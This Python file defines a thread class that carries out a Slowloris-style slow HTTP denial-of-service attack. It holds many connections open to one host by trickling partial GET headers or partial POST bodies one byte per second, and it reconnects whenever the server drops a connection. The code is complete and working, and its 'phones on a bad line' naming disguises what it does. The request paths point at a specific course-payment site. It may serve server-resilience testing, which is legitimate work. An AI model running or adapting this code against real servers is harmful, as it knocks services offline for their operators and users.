"""Many phones on a line so bad that one byte a second comes through; one thread plays them all."""

import contextlib
import itertools
import socket
import threading
import time
from collections.abc import Callable

HEAD = "Host: {name}\r\nUser-Agent: slow\r\n"
KINDS = {
    "heads": "GET /khoa-hoc/thanh-toan-so HTTP/1.1\r\n" + HEAD + "X-Slow: ",
    "bodies": "POST /khoa-hoc/thanh-toan-so/tien-trong-dien-thoai/luot-lam HTTP/1.1\r\n" + HEAD
    + "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 4000\r\n\r\ncsrf_token=",
}  # fmt: skip


class SlowPhones(threading.Thread):
    """Keeps `count` phones at it, each sending a byte a second; one that is hung up on tries again."""

    def __init__(self, count: int, kind: str, name: str, connect: Callable[[], socket.socket]) -> None:
        super().__init__(daemon=True)
        kinds = itertools.cycle(KINDS if kind == "both" else [kind])
        self.begin = [KINDS[next(kinds)].format(name=name).encode() for _ in range(count)]
        self.connect, self.lines = connect, [None] * count
        self.done, self.all_there = threading.Event(), threading.Event()
        self.sent, self.hung_up = 0, 0

    def run(self) -> None:
        while not self.done.is_set():
            began = time.monotonic()
            for number in range(len(self.lines)):
                self.step(number)
            self.all_there.set()
            self.done.wait(max(0.0, 1 - (time.monotonic() - began)))
        for line in filter(None, self.lines):
            line.close()

    def step(self, number: int) -> None:
        """Send the next byte of one phone, or begin anew."""
        line = self.lines[number]
        try:
            if line is None:
                line = self.lines[number] = self.connect()
                line.sendall(self.begin[number])
            else:
                line.sendall(b"x")
            self.sent += 1
        except OSError:
            self.hung_up += 1
            if line is not None:
                with contextlib.suppress(OSError):
                    line.close()
            self.lines[number] = None

    def stop(self) -> None:
        self.done.set()
        self.join(30)
